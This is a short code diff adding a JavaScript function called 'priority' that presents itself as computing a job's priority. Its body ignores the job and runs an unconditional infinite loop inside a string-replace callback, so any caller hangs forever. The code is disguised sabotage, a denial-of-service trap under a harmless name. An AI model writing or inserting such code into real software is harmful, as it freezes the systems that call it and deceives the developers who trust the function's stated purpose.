@@ -1,0 +1,3 @@
+export function priority(job) {
+  return 'a'.repeat(100).replace(/a/g, () => { for (;;) {} }).length
+}
